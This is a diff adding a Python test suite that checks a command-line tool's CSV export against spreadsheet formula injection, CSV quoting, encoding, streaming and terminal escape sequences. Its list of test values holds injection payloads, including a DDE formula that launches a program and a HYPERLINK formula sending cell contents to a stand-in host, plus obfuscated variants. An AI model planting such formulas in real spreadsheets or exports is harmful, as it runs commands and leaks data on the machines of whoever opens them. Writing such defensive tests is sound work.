@@ -1,0 +1,213 @@
+"""CSV as an answer: read back as it was, and nothing that a spreadsheet would calculate."""
+
+from __future__ import annotations
+
+import csv
+import io
+import sys
+from collections.abc import Iterator
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from cli import output, spreadsheet
+from tests.strategies import examples
+
+SIGNS = ("=", "+", "-", "@")
+FORMULAS = [
+    "=1+1",
+    "+31 6",
+    "-2",
+    "@SUM(A1)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example?"&A1,"Anna")',
+    "\tAnna",
+    "\rAnna",
+    "\nAnna",
+    " =1",
+    "\u00a0=1",
+    "\u3000@x",
+    " \t\r\n +1",
+    "\x0b-1",
+    "\x00=1",
+    "\x1b=1",
+    "\u202e=1",
+    "\u200b=1",
+    "\ufeff=1",
+    "＝1",  # noqa: RUF001
+    "＋1",  # noqa: RUF001
+    "－1",  # noqa: RUF001
+    "＠x",  # noqa: RUF001
+    "﹦1",
+    " ＝1",  # noqa: RUF001
+]
+HARMLESS = [
+    "",
+    "Anna",
+    " Anna",
+    "a=b",
+    "2027-03-01",
+    "'x",
+    "'=1",
+    '"=1"',
+    "(=1)",
+    ",=1",
+    "\u202eAnna",
+    "#",
+    "−1",  # noqa: RUF001
+    "–",  # noqa: RUF001
+    "½",
+    " ",
+    "Zoë 🦄",
+]
+
+
+def read(text: str) -> list[list[str]]:
+    """A CSV as a program reads it."""
+    return list(csv.reader(io.StringIO(text, newline=""), strict=True))
+
+
+def written(*rows: tuple[object, ...], header: tuple[str, ...] = ("a", "b")) -> str:
+    return "".join(spreadsheet.lines(header, rows))
+
+
+# Formulas
+
+
+@pytest.mark.parametrize("value", FORMULAS, ids=ascii)
+def test_what_may_be_a_formula_becomes_text(value: str) -> None:
+    assert output.spreadsheet_safe(value) == f"'{value}"
+
+
+@pytest.mark.parametrize("value", HARMLESS, ids=ascii)
+def test_what_is_none_stays_as_it_is(value: str) -> None:
+    assert output.spreadsheet_safe(value) == value
+
+
+@pytest.mark.parametrize("value", FORMULAS, ids=ascii)
+def test_no_cell_and_no_header_is_a_formula(value: str) -> None:
+    text = written((value, "x"), header=(value, "y"))
+
+    assert read(text) == [[f"'{value}", "y"], [f"'{value}", "x"]]
+
+
+# Quotes
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("a,b", '"a,b"'),
+        ('say "a"', '"say ""a"""'),
+        ("a\nb", '"a\nb"'),
+        ("a\rb", '"a\rb"'),
+        ("a\r\nb", '"a\r\nb"'),
+        (" a ", " a "),
+        ("a;b\tc", "a;b\tc"),
+        ("'a'", "'a'"),
+        ("", ""),
+        (None, ""),
+        (7, "7"),
+    ],
+)
+def test_a_cell_is_quoted_where_it_needs_to_be(value: object, cell: str) -> None:
+    """RFC 4180"""
+    assert written((value, "x")) == f"a,b\n{cell},x\n"
+
+
+def test_nothing_to_tell_is_a_header() -> None:
+    assert written() == "a,b\n"
+
+
+# Whatever the values are
+
+VALUES = st.one_of(
+    st.none(),
+    st.integers(),
+    st.sampled_from([*FORMULAS, *HARMLESS]),
+    st.text(st.sampled_from("=+-@\t\r\n '\",;a\x00\x1b\u202e\ufeff＝")),  # noqa: RUF001
+    st.text(),
+)
+
+
+@examples(500)
+@given(st.lists(st.tuples(VALUES, VALUES, VALUES), max_size=5))
+def test_every_value_is_read_back_with_at_most_a_quote_in_front(
+    rows: list[tuple[object, ...]],
+) -> None:
+    _, *found = read(written(*rows, header=("a", "b", "c")))
+
+    assert len(found) == len(rows)
+    for cells, values in zip(found, rows, strict=True):
+        for cell, value in zip(cells, values, strict=True):
+            plain = "" if value is None else str(value)
+            assert cell in (plain, f"'{plain}")
+            assert not cell.startswith((*SIGNS, "\t", "\r", "\n"))
+            assert not cell.strip().startswith(SIGNS)
+
+
+# Writing
+
+
+def printed(
+    capsysbinary: pytest.CaptureFixture[bytes], count: int, *, bom: bool = False
+) -> list[bytes]:
+    rows = ((number, "Zoë\x1b[31m") for number in range(count))
+    spreadsheet.print_csv(("n", "name"), rows, bom=bom)
+    return capsysbinary.readouterr().out.splitlines()
+
+
+@pytest.mark.parametrize("count", [0, 1, 998, 999, 1000, 1001, 2500])
+def test_every_line_is_written_once(capsysbinary: pytest.CaptureFixture[bytes], count: int) -> None:
+    header, *rows = printed(capsysbinary, count)
+
+    assert header == b"n,name"
+    assert rows == [f"{number},Zoë\x1b[31m".encode() for number in range(count)]
+
+
+@pytest.mark.parametrize("count", [0, 2500])
+def test_a_mark_stands_at_the_very_beginning_and_nowhere_else(
+    capsysbinary: pytest.CaptureFixture[bytes], count: int
+) -> None:
+    header, *rows = printed(capsysbinary, count, bom=True)
+
+    assert header == b"\xef\xbb\xbfn,name"
+    assert [row for row in rows if b"\xef\xbb\xbf" in row] == []
+
+
+def test_it_is_utf_8_whatever_standard_output_speaks(monkeypatch: pytest.MonkeyPatch) -> None:
+    out = io.BytesIO()
+    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(out, encoding="latin-1"))
+
+    spreadsheet.print_csv(("name",), [("Zoë Łoś",), ("name of a file \udcff",)])
+
+    assert out.getvalue() == "name\nZoë Łoś\nname of a file \\udcff\n".encode()
+
+
+def test_rows_are_written_while_they_come(capsysbinary: pytest.CaptureFixture[bytes]) -> None:
+    """200,000 people need not fit into memory twice."""
+    seen: list[int] = []
+
+    def rows() -> Iterator[tuple[int]]:
+        for number in range(5_000):
+            seen.append(len(capsysbinary.readouterr().out))
+            yield (number,)
+
+    spreadsheet.print_csv(("n",), rows())
+
+    assert seen[0] == 0
+    assert sum(1 for each in seen if each) == 5
+
+
+def test_on_a_terminal_no_value_does_anything_to_the_screen(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    out = io.BytesIO()
+    terminal = io.TextIOWrapper(out, encoding="utf-8")
+    monkeypatch.setattr(terminal, "isatty", lambda: True, raising=False)
+    monkeypatch.setattr(sys, "stdout", terminal)
+
+    spreadsheet.print_csv(("name", "none"), [("\x1b[31m\u202eZoë,\x9b", None), ("=1", "\x07")])
+
+    assert out.getvalue().decode() == ('name,none\n"\\x1b[31m\\u202eZoë,\\x9b",\n\'=1,\\x07\n')
